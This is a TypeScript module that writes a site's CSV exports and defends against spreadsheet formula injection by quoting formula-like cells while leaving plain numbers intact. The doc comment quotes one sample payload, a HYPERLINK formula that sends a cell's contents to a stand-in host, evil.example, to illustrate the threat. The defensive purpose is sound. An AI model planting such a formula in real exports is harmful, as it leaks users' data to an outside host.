import { stringify } from 'csv-stringify/sync';

/**
 * The one CSV writer of the site: every export and download (comments, subscribers, layer features, extract
 * zips, the shapefile's fields.csv, the Data Explorer) goes through `toCsv`, so every cell is safe to open in a
 * spreadsheet.
 *
 * Formula injection (CSV injection, OWASP): a spreadsheet runs a cell that starts with `=`, `+`, `-` or `@`
 * (and some also one that starts with a tab, carriage return or line feed; Apple Numbers also the full-width
 * ＝ ＋ － ＠) as a formula, e.g. `=HYPERLINK("http://evil.example/?d="&A1,"Click")`. Such a cell is written with a leading single quote
 * (`'=HYPERLINK(…)`), which spreadsheets show as text. Our choice beside OWASP's rule: a cell that is entirely
 * a plain decimal number (`-3.5`, `+2`, `-1.2e3`, or a JavaScript number such as a negative longitude) is left
 * alone, so numeric columns stay numbers; a number cannot be a formula. Anything else starting with one of
 * those characters (`-2+3`, `@SUM(A1)`, `- 1`) is prefixed.
 */
const FORMULA_START = /^[=+\-@\t\r\n\uFF1D\uFF0B\uFF0D\uFF20]/;
const PLAIN_NUMBER = /^[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?$/;

/** A value as one CSV cell: empty for null, yes/no for booleans, numbers as numbers, formula-like text quoted. */
export function csvCell(v: unknown): string | number {
  if (v === null || v === undefined) return '';
  if (typeof v === 'number') return Number.isFinite(v) ? v : '';
  if (typeof v === 'boolean') return v ? 'yes' : 'no';
  const s = v instanceof Date ? v.toISOString() : String(v);
  return FORMULA_START.test(s) && !PLAIN_NUMBER.test(s) ? `'${s}` : s;
}

export interface CsvOptions {
  /** Start with a UTF-8 byte-order mark, so Excel reads accented names correctly (default true). */
  bom?: boolean;
  /** Line ending: '\n' (default) or RFC 4180's '\r\n'. */
  eol?: '\n' | '\r\n';
}

/**
 * Rows (the first one usually the header) as CSV text: RFC 4180 quoting (fields with a comma, quote, CR or LF
 * are quoted, quotes doubled) by csv-stringify, every cell through `csvCell`.
 */
export function toCsv(rows: ReadonlyArray<ReadonlyArray<unknown>>, options: CsvOptions = {}): string {
  const body = stringify(
    rows.map((r) => r.map(csvCell)),
    {
      record_delimiter: options.eol === '\r\n' ? 'windows' : 'unix',
      // csv-stringify quotes a field holding the record delimiter only: with CRLF lines a bare LF (or CR)
      // would go out unquoted and split the row in a spreadsheet, so any CR or LF forces quotes.
      quoted_match: /[\r\n]/,
    },
  );
  return (options.bom === false ? '' : '\uFEFF') + body;
}
